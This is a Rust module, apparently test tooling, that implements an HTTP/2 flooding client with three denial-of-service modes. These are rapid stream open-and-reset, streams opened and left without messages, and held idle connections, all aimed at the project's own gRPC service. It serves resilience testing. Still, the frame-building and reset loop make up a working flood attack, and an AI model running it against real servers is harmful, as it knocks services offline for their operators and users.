//! A client that means harm: it speaks just enough HTTP/2 for that. It runs as a process of its own
//! (`godel-test-flooder`), at the lowest priority, so that what it takes from the others is what the server lets it.

use std::{
    io::{self, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    time::{Duration, Instant},
};

use anyhow::Result;
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};

/// What to do to a server.
#[derive(Clone, Debug, clap::Parser)]
pub struct Flood {
    /// How.
    #[arg(long, value_enum)]
    pub kind: Kind,
    /// Where.
    #[arg(long)]
    pub address: SocketAddr,
    /// For how long.
    #[arg(long)]
    pub seconds: u64,
    /// Calls, or connections, at once.
    #[arg(long, default_value_t = 1)]
    pub at_once: usize,
}

/// Kinds of floods.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Kind {
    /// Opens calls and resets them at once, on one connection after the other.
    Reset,
    /// Opens calls and never sends their messages.
    Headers,
    /// Opens connections and says nothing; those that are closed are opened again.
    Idle,
}

impl Kind {
    /// As an argument.
    pub fn name(self) -> &'static str {
        match self {
            Self::Reset => "reset",
            Self::Headers => "headers",
            Self::Idle => "idle",
        }
    }
}

impl Flood {
    /// As arguments of the flooder process.
    pub fn args(&self) -> Vec<String> {
        let Self { kind, address, seconds, at_once } = self;
        vec![
            format!("--kind={}", kind.name()),
            format!("--address={address}"),
            format!("--seconds={seconds}"),
            format!("--at-once={at_once}"),
        ]
    }
}

const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const END_HEADERS: u8 = 4;
/// Pause where a server closes every connection at once.
const PAUSE: Duration = Duration::from_millis(1);

/// Floods for as long as asked; how many calls or connections it made.
///
/// # Errors
/// The first connection cannot be opened.
pub fn run(flood: &Flood) -> Result<u64> {
    // A refusal does no harm: it only makes the flood stronger.
    let _ = rustix::process::nice(19);
    let limit = getrlimit(Resource::Nofile);
    let _ = setrlimit(Resource::Nofile, Rlimit { current: limit.maximum, ..limit });
    let until = Instant::now() + Duration::from_secs(flood.seconds);
    drop(TcpStream::connect(flood.address)?);
    let mut n = 0;
    match flood.kind {
        Kind::Reset => {
            while Instant::now() < until {
                n += reset_until_closed(flood.address, until).unwrap_or(0);
            }
        }
        Kind::Headers => {
            while Instant::now() < until {
                n += open_and_hold(flood, until).unwrap_or(0);
            }
        }
        Kind::Idle => {
            let mut held: Vec<TcpStream> = Vec::new();
            while Instant::now() < until {
                held.retain(|stream| !is_closed(stream));
                let before = n;
                while held.len() < flood.at_once && Instant::now() < until {
                    let Ok(stream) = TcpStream::connect_timeout(&flood.address, Duration::from_millis(200))
                    else {
                        break;
                    };
                    if stream.set_nonblocking(true).is_err() {
                        break;
                    }
                    held.push(stream);
                    n += 1;
                }
                if n == before {
                    std::thread::sleep(PAUSE);
                }
            }
        }
    }
    Ok(n)
}

fn frame(kind: u8, flags: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(content);
    bytes
}

/// Headers of a call that every state and no other service knows; both have to bear it.
fn head() -> Vec<u8> {
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "x"),
        (":path", "/godel.v1.StateService/GetStoreStatus"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("grpc-timeout", "99999999H"),
    ];
    let mut bytes = Vec::new();
    for (name, value) in fields {
        bytes.push(0);
        for text in [name, value] {
            bytes.push(u8::try_from(text.len()).unwrap_or(0));
            bytes.extend(text.bytes());
        }
    }
    bytes
}

fn connect(address: SocketAddr) -> io::Result<TcpStream> {
    let mut stream = TcpStream::connect(address)?;
    stream.set_write_timeout(Some(Duration::from_secs(1)))?;
    let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    hello.extend(frame(SETTINGS, 0, 0, &[]));
    stream.write_all(&hello)?;
    Ok(stream)
}

fn reset_until_closed(address: SocketAddr, until: Instant) -> io::Result<u64> {
    let mut stream = connect(address)?;
    let (head, mut id, mut n) = (head(), 1u32, 0);
    while Instant::now() < until {
        let mut bytes = Vec::new();
        for _ in 0..50 {
            bytes.extend(frame(HEADERS, END_HEADERS, id, &head));
            bytes.extend(frame(RESET, 0, id, &8u32.to_be_bytes()));
            id += 2;
        }
        if stream.write_all(&bytes).is_err() {
            break;
        }
        n += 50;
    }
    Ok(n)
}

/// Opens calls, and reads what comes back until the end of the time or of the connection.
fn open_and_hold(flood: &Flood, until: Instant) -> io::Result<u64> {
    let mut stream = connect(flood.address)?;
    let (head, mut n) = (head(), 0);
    for idx in 0..flood.at_once {
        let id = u32::try_from(2 * idx + 1).unwrap_or(u32::MAX);
        stream.write_all(&frame(HEADERS, END_HEADERS, id, &head))?;
        n += 1;
    }
    let mut buffer = [0; 65_536];
    stream.set_read_timeout(Some(Duration::from_millis(100)))?;
    while Instant::now() < until {
        match stream.read(&mut buffer) {
            Ok(0) => break,
            Ok(_) => {}
            Err(error) if matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => {}
            Err(_) => break,
        }
    }
    Ok(n)
}

/// Whether the other side has closed a connection that does not block.
fn is_closed(stream: &TcpStream) -> bool {
    let mut byte = [0];
    match stream.peek(&mut byte) {
        Ok(0) => true,
        Ok(_) => false,
        Err(error) => error.kind() != io::ErrorKind::WouldBlock,
    }
}
